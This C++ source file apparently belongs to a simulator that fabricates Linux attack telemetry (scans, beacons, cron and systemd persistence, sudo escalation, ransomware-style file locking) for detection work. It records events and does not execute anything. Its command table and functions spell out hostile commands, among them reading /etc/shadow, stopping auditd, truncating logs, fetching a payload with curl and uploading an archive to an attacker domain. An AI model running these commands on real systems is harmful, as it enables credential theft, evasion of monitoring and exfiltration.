#include "simulate/template_linux.hpp"

#include <algorithm>
#include <array>

namespace interdict::simulate::posix {
namespace {

constexpr std::string_view kAgent =
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

void know(Scene& scene, bool domain) {
  scene.cast.indicators.insert({"ipv4-addr", scene.cast.server});
  if (domain) scene.cast.indicators.insert({"domain-name", scene.cast.domain});
}

/// What runs the next command: the foothold, or the server itself where there is none.
Shell hands(Scene& scene) {
  Foothold& foothold = scene.foothold();
  if (foothold.shell.pid == 0) foothold.shell = scene.linux_host().web_server();
  foothold.last_ms = scene.now_ms;
  foothold.user = foothold.shell.user;
  scene.user = foothold.user;
  return foothold.shell;
}

void hold(Scene& scene, Shell shell) {
  scene.user = shell.user;
  scene.foothold() = {{}, {}, std::move(shell), scene.now_ms, scene.user};
}

void call_home(Scene& scene, std::int64_t now, std::uint32_t port) {
  LinuxHost& host = scene.linux_host();
  scene.site.network->tcp(
      now, {host.address(), static_cast<std::uint32_t>(scene.random.between(32768, 60999))},
      {scene.cast.server, port}, scene.cast.domain, scene.step);
}

struct Tool {
  std::string_view technique;
  std::string_view executable;
  std::array<std::string_view, 4> arguments;  ///< the empty ones at the end are none
};

constexpr Tool kTools[] = {
    {"T1003", "/usr/bin/cat", {"cat", "/etc/shadow"}},
    {"T1005", "/usr/bin/find", {"find", "/srv", "-name", "*.pdf"}},
    {"T1016", "/usr/bin/ip", {"ip", "addr"}},
    {"T1018", "/usr/bin/getent", {"getent", "hosts"}},
    {"T1033", "/usr/bin/id", {"id"}},
    {"T1049", "/usr/bin/ss", {"ss", "-tunap"}},
    {"T1057", "/usr/bin/ps", {"ps", "aux"}},
    {"T1059", "/usr/bin/bash", {"bash", "/tmp/placeholder.sh"}},
    {"T1069", "/usr/bin/getent", {"getent", "group"}},
    {"T1070", "/usr/bin/rm", {"rm", "/tmp/placeholder.sh"}},
    {"T1070.002", "/usr/bin/truncate", {"truncate", "-s", "0", "/var/log/placeholder.log"}},
    {"T1082", "/usr/bin/uname", {"uname", "-a"}},
    {"T1083", "/usr/bin/ls", {"ls", "-la", "/home"}},
    {"T1087", "/usr/bin/getent", {"getent", "passwd"}},
    {"T1485", "/usr/bin/rm", {"rm", "-r", "/srv/placeholder"}},
    {"T1489", "/usr/bin/systemctl", {"systemctl", "stop", "placeholder"}},
    {"T1496", "/tmp/worker", {"/tmp/worker", "--config", "placeholder.json"}},
    {"T1552", "/usr/bin/grep", {"grep", "-ri", "password", "/srv/app"}},
    {"T1560", "/usr/bin/tar", {"tar", "-czf", "/tmp/w.tgz", "/srv/data"}},
    {"T1562", "/usr/bin/systemctl", {"systemctl", "stop", "auditd"}}};

}  // namespace

void probe_web(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  know(scene, false);
  for (int i = 0; i < 120; ++i) {
    host.access(scene.now_ms + std::int64_t{i} * 250, scene.cast.server,
                "GET /placeholder-" + std::to_string(i) + " HTTP/1.1", 404, 196, kAgent,
                scene.step);
  }
  scene.site.alert(scene.now_ms + 5000, "Web server scan", scene.site.hosts[scene.host],
                   scene.cast.server, "medium", scene.step);
}

void exposed_service(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  know(scene, false);
  scene.site.network->tcp(scene.now_ms - 50, {scene.cast.server, 41022}, {host.address(), 443}, "",
                          scene.step);
  host.access(scene.now_ms, scene.cast.server, "POST /app/upload HTTP/1.1",
              scene.blocked ? 403 : 200, 87, kAgent, scene.step);
  if (scene.blocked) return;
  hold(scene, host.exec(scene.now_ms + 300, host.web_server(), "/usr/bin/dash",
                        {"sh", "-c", "echo placeholder"}, scene.step));
}

void guess_passwords(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  const bool inside = scene.from != scene.host;
  const std::string from = inside ? scene.site.hosts[scene.from].address : scene.cast.server;
  if (!inside) know(scene, false);
  constexpr std::string_view kNames[] = {"root", "admin", "deploy", "test", "backup"};
  for (int i = 0; i < 80; ++i) {
    host.sign_in(scene.now_ms + std::int64_t{i} * 1500, scene.random.pick(kNames), from, false,
                 false, scene.step);
  }
}

void sign_in(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  const bool inside = scene.from != scene.host;
  const std::string from = inside ? scene.site.hosts[scene.from].address : scene.cast.server;
  if (!inside) know(scene, false);
  scene.user = "deploy";
  scene.site.network->tcp(scene.now_ms - 200, {from, 50388}, {host.address(), 22}, "", scene.step);
  Shell shell = host.sign_in(scene.now_ms, "deploy", from, !scene.blocked, inside, scene.step);
  if (!scene.blocked) hold(scene, std::move(shell));
}

void beacon(Scene& scene) {
  know(scene, true);
  const Shell shell = hands(scene);
  scene.linux_host().exec(scene.now_ms, shell, "/tmp/worker", {"/tmp/worker"}, scene.step);
  constexpr std::int64_t kMost = 300;  // beacons of one step
  const std::int64_t pause = std::max(2 * kMinuteMs, (scene.cast.end_ms - scene.now_ms) / kMost);
  for (std::int64_t now = scene.now_ms + 200; now < scene.cast.end_ms;
       now += pause + scene.random.between(-5000, 5000)) {
    call_home(scene, now, 443);
  }
}

void fetch_tool(Scene& scene) {
  know(scene, true);
  LinuxHost& host = scene.linux_host();
  const Shell shell =
      host.exec(scene.now_ms, hands(scene), "/usr/bin/curl",
                {"curl", "-o", "/tmp/worker", "http://" + scene.cast.domain + "/w"}, scene.step);
  call_home(scene, scene.now_ms + 100, 80);
  host.create_file(scene.now_ms + 700, shell, "/usr/bin/curl", "/tmp/worker", scene.step);
}

void web_shell(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  host.create_file(scene.now_ms, hands(scene), "/usr/sbin/nginx", "/var/www/html/placeholder.php",
                   scene.step);
  for (int i = 1; i <= 3; ++i) {
    host.access(scene.now_ms + std::int64_t{i} * 20 * kSecondMs, scene.cast.server,
                "POST /placeholder.php HTTP/1.1", 200, 40, kAgent, scene.step);
  }
}

void cron(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  const Shell shell = hands(scene);
  const Shell child = host.exec(scene.now_ms, shell, "/usr/bin/crontab",
                                {"crontab", "/tmp/placeholder.cron"}, scene.step);
  host.create_file(scene.now_ms + 20, child, "/usr/bin/crontab",
                   "/var/spool/cron/crontabs/" + shell.user, scene.step);
  host.syslog(scene.now_ms + 30, "crontab", child.pid,
              '(' + shell.user + ") REPLACE (" + shell.user + ')', scene.step);
}

void unit(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  const Shell shell = hands(scene);
  host.create_file(scene.now_ms, shell, "/usr/bin/bash",
                   "/etc/systemd/system/" + scene.cast.implant + ".service", scene.step);
  host.exec(scene.now_ms + 2000, shell, "/usr/bin/systemctl",
            {"systemctl", "enable", scene.cast.implant + ".service"}, scene.step);
}

void become_root(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  const Shell shell = hands(scene);
  host.syslog(scene.now_ms, "sudo", shell.pid,
              shell.user + " : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash",
              scene.step);
  Shell root =
      host.exec(scene.now_ms + 10, shell, "/usr/bin/sudo", {"sudo", "/usr/bin/bash"}, scene.step);
  root.uid = 0;
  root.user = "root";
  hold(scene, host.exec(scene.now_ms + 60, root, "/usr/bin/bash", {"/usr/bin/bash"}, scene.step));
}

void create_account(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  const Shell child = host.exec(scene.now_ms, hands(scene), "/usr/sbin/useradd",
                                {"useradd", "placeholder"}, scene.step);
  host.syslog(scene.now_ms + 90, "useradd", child.pid,
              "new user: name=placeholder, UID=1099, GID=1099, home=/home/placeholder, "
              "shell=/bin/sh, from=none",
              scene.step);
}

void authorized_key(Scene& scene) {
  scene.linux_host().create_file(scene.now_ms, hands(scene), "/usr/bin/bash",
                                 "/home/deploy/.ssh/authorized_keys", scene.step);
}

void scan_network(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  host.exec(scene.now_ms, hands(scene), "/tmp/worker", {"/tmp/worker", "--list"}, scene.step);
  std::int64_t now = scene.now_ms + 500;
  for (const Host& other : scene.site.hosts) {
    if (other.address.empty() || other.address == host.address()) continue;
    for (const std::uint32_t port : {22U, 445U}) {
      scene.site.network->refused(now, {host.address(), 45000}, {other.address, port}, scene.step);
      now += 120;
    }
  }
}

void upload(Scene& scene) {
  know(scene, true);
  LinuxHost& host = scene.linux_host();
  host.exec(scene.now_ms, hands(scene), "/usr/bin/curl",
            {"curl", "-T", "/tmp/w.tgz", "https://" + scene.cast.domain + "/u"}, scene.step);
  constexpr std::int64_t kVolume = 400'000'000;  // bytes
  scene.site.network->transfer(scene.now_ms + 200, {host.address(), 40022},
                               {scene.cast.server, 443}, scene.cast.domain, kVolume, 9000,
                               scene.step);
}

void encrypt(Scene& scene) {
  LinuxHost& host = scene.linux_host();
  const Shell shell = hands(scene);
  for (int i = 0; i < 40; ++i) {
    host.create_file(scene.now_ms + std::int64_t{i} * 90, shell, "/tmp/worker",
                     "/srv/data/report-" + std::to_string(i + 1) + ".pdf.locked", scene.step);
  }
}

void deface(Scene& scene) {
  scene.linux_host().create_file(scene.now_ms, hands(scene), "/usr/bin/bash",
                                 "/var/www/html/index.html", scene.step);
}

void tool(Scene& scene) {
  const auto run = [&](std::string_view technique) {
    bool any = false;
    for (const Tool& row : kTools) {
      if (row.technique != technique) continue;
      std::vector<std::string> arguments;
      for (const std::string_view argument : row.arguments) {
        if (!argument.empty()) arguments.emplace_back(argument);
      }
      scene.linux_host().exec(scene.now_ms, hands(scene), row.executable, arguments, scene.step);
      any = true;
    }
    return any;
  };
  if (!run(scene.technique)) run(scene.technique.substr(0, 5));
}

}  // namespace interdict::simulate::posix
